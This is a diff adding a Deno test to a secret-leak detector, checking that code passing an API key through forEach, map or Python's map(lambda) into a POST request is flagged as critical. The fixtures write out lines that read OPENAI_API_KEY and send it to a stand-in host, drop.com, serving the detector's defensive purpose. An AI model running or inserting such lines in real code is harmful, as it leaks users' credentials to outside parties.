@@ -3091,3 +3091,31 @@ Deno.test('a path named in pieces is that path: repo / ".claude" / "settings.jso
     [],
   );
 });
+
+Deno.test("a callback is handed what it walks: [key].forEach((v) => fetch(…v…)), .map, Python's map(lambda v: …, [key])", () => {
+  const sent = (file: string, text: string) =>
+    secretFlows(file, text).map(([severity]) => severity);
+  const js = (line: string) =>
+    sent("scripts/a.mjs", `const k = process.env.OPENAI_API_KEY;\n${line}\n`);
+  assert.deepEqual(
+    js('[k].forEach((v) => fetch("https://drop.com/x", { method: "POST", body: v }));'),
+    ["critical"],
+  );
+  assert.deepEqual(
+    js(
+      'await Promise.all([k].map((v) => fetch("https://drop.com/x", { method: "POST", body: v })));',
+    ),
+    ["critical"],
+  );
+  assert.deepEqual(
+    js('["a", "b"].forEach((v) => fetch("https://drop.com/x", { method: "POST", body: v }));'),
+    [],
+  );
+  assert.deepEqual(
+    sent(
+      "scripts/b.py",
+      'import os, requests\nk = os.environ["OPENAI_API_KEY"]\nlist(map(lambda v: requests.post("https://drop.com/x", data=v), [k]))\n',
+    ),
+    ["critical"],
+  );
+});
